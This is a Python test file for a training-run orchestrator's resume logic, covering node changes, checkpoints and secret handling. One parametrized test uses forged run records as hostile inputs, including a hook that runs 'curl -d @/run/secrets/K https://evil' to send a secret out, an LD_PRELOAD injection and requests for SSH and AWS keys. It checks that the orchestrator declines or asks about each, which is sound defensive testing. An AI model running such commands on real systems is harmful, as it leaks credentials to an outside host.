"""What is deployed to resume a run: on the machines as they are now."""

import contextlib
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from orchestrator.errors import DeclinedError, RunError, SpecError
from orchestrator.facts.machine import Facts
from orchestrator.runs.launch import Prepared, prepare
from orchestrator.runs.resume import prepare_resume
from orchestrator.runs.run import Run
from orchestrator.runs.seen import RankSeen
from orchestrator.spec.load import load_stack
from orchestrator.spec.stack import StackSpec
from orchestrator.stack.tasks import Task
from tests.runs.folders import ENDED
from tests.runs.test_prepare import taken_in
from tests.support.clusters import sparks
from tests.support.hub.server import Hub
from training.contract.verdict import Verdict


def nobody(lines: Sequence[str]) -> None:
    """To be asked: nothing of what goes on is unusual."""
    raise DeclinedError("\n".join(lines))


TINY = load_stack("tiny-llama-lora", ("training.loop.max_steps=7",))


def ended(
    prepared: Prepared, state: str | None = "stopped", tasks: tuple[Task, ...] = (), **other: Any
) -> Run:
    record = prepared.record.model_copy(update=other)
    verdict = Verdict.model_validate(
        {"run": record.run, "state": state, "step": 1, "attempts": 1, "ended": ENDED}
    ) if state else None  # fmt: skip
    return Run(record, {0: RankSeen(verdict=verdict)}, tasks, {})


def made(stack: StackSpec = TINY, number: int = 2, **environ: str) -> Prepared:
    return prepare(sparks(number), stack, taken_in(sparks(number)), environ)


def test_it_goes_on_under_its_name_with_its_settings() -> None:
    first = made()
    prepared = prepare_resume(sparks(2), ended(first), taken_in(sparks(2)), nobody, {})
    assert prepared.rendered.run == first.rendered.run
    assert prepared.stack.training == TINY.training
    assert (prepared.is_new, prepared.record.created) == (False, first.record.created)
    assert [config.name for config in prepared.rendered.configs] == [
        config.name for config in first.rendered.configs
    ]


def test_a_run_that_is_resumed_asks_no_hub(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its base was there when it began; the Hub may be away, or have it no longer."""
    stack = load_stack("tiny-llama-lora", ("training.model.name=org/unknown",))
    with Hub({}) as hub:
        monkeypatch.setenv("HF_ENDPOINT", hub.url)
        prepared = prepare_resume(sparks(2), ended(made(stack)), taken_in(sparks(2)), nobody, {})
        assert hub.requests == []
    assert prepared.forecast is None and prepared.stack.training == stack.training


def test_a_swarm_that_was_made_anew_is_no_hindrance() -> None:
    """After `cluster down` and `up` the nodes have other IDs, and the old compose file no place."""
    world: dict[str, Facts] = {
        name: replace(facts, docker=facts.docker | {"Swarm": _renamed(facts)})  # type: ignore[operator]
        for name, facts in taken_in(sparks(2)).items()
    }
    prepared = prepare_resume(sparks(2), ended(made()), world, nobody, {})
    assert "node.id == new-spark-b" in prepared.rendered.compose


def _renamed(facts: Facts) -> dict[str, Any]:
    swarm = dict((facts.docker or {})["Swarm"])
    return swarm | {"NodeID": f"new-{facts.node}"}


def test_machines_that_came_since_are_left_out() -> None:
    prepared = prepare_resume(sparks(3), ended(made()), taken_in(sparks(3)), nobody, {})
    assert [rank.node for rank in prepared.ranks] == ["spark-a", "spark-b"]


def test_other_machines_do_not_have_its_checkpoints() -> None:
    run = ended(made(number=3))
    with pytest.raises(RunError, match="would not be where they were") as caught:
        prepare_resume(sparks(2), run, taken_in(sparks(2)), nobody, {})
    assert "rank 2 on spark-c" in str(caught.value.details)


def test_the_secrets_that_it_had_must_be_there_again() -> None:
    stack = load_stack("tiny-llama-lora", ("secrets=[{name: CHAT}]",))
    run = ended(made(stack, CHAT="x"))

    def agree(lines: Sequence[str]) -> None:
        assert lines == ["secret CHAT: reads the variable CHAT of this computer"]

    with pytest.raises(SpecError, match="was started with the secret CHAT"):
        prepare_resume(sparks(2), run, taken_in(sparks(2)), agree, {})
    went_on = prepare_resume(sparks(2), run, taken_in(sparks(2)), agree, {"CHAT": "y"})
    assert went_on.secrets == {"CHAT": "y"}
    without = ended(made(stack))
    assert prepare_resume(sparks(2), without, taken_in(sparks(2)), agree, {}).secrets == {}


@pytest.mark.parametrize(
    ("change", "line"),
    [
        ({"base_image": "evil/image"}, "evil/image"),
        ({"env": {"LD_PRELOAD": "/x.so"}}, "LD_PRELOAD=/x.so"),
        ({"gang": {"hooks": [{"command": ["curl", "-d", "@/run/secrets/K", "https://evil"]}]}},
         "curl -d @/run/secrets/K https://evil"),
        ({"gang": {"hooks": [{"url": "https://evil"}]}}, "https://evil"),
        ({"engine": "/home/me/private"}, "the folder /home/me/private"),
        ({"secrets": [{"name": "AWS_SECRET_ACCESS_KEY"}]}, "AWS_SECRET_ACCESS_KEY"),
        ({"secrets": [{"name": "K", "file": "~/.ssh/id_ed25519"}]}, "secret K"),
        ({"name": "tiny-llama-lora.yaml"}, None),
        ({"name": "a-recipe-of-mine"}, None),
        ({}, None),
    ],
)  # fmt: skip
def test_what_a_record_would_do_beyond_training_is_asked(
    change: dict[str, Any], line: str | None
) -> None:
    """S1 b: a record that somebody forged on a node decides no code, no image, no secret."""
    first = made()
    run = ended(first, stack=first.record.stack | change)
    environ = {"AWS_SECRET_ACCESS_KEY": "theirs"}
    if line is None:
        with contextlib.suppress(RunError):  # a name that no recipe can have
            assert (
                prepare_resume(sparks(2), run, taken_in(sparks(2)), nobody, environ).secrets == {}
            )
        return
    with pytest.raises(DeclinedError) as caught:
        prepare_resume(sparks(2), run, taken_in(sparks(2)), nobody, environ)
    assert line in caught.value.brief


def test_no_file_of_this_computer_is_read_because_a_record_names_it(tmp_path: Path) -> None:
    """S1 b: not even when somebody says yes."""
    key = tmp_path / "id_ed25519"
    key.write_text("a private key")
    key.chmod(0o600)
    first = made()
    secrets = [{"name": "K", "file": str(key)}, {"name": "L", "file": str(key)}]
    run = ended(first, stack=first.record.stack | {"secrets": secrets})
    went_on = prepare_resume(sparks(2), run, taken_in(sparks(2)), lambda _: None, {"L": "given"})
    assert went_on.secrets == {"L": "given"}
    assert str(key) not in went_on.record.model_dump_json()


def test_what_runs_or_has_succeeded_is_left_alone() -> None:
    first = made()
    with pytest.raises(RunError, match="nothing to resume"):
        prepare_resume(sparks(2), ended(first, "succeeded"), taken_in(sparks(2)), nobody, {})
    running = ended(first, None, (Task(0, "running"), Task(1, "running")))
    with pytest.raises(RunError, match="is running") as caught:
        prepare_resume(sparks(2), running, taken_in(sparks(2)), nobody, {})
    assert "runs follow" in str(caught.value.resolution)


def test_a_record_of_another_version_is_told() -> None:
    run = ended(made(), stack={"name": "x", "of": "the future"})
    with pytest.raises(RunError, match="another version of sparkctl"):
        prepare_resume(sparks(2), run, taken_in(sparks(2)), nobody, {})
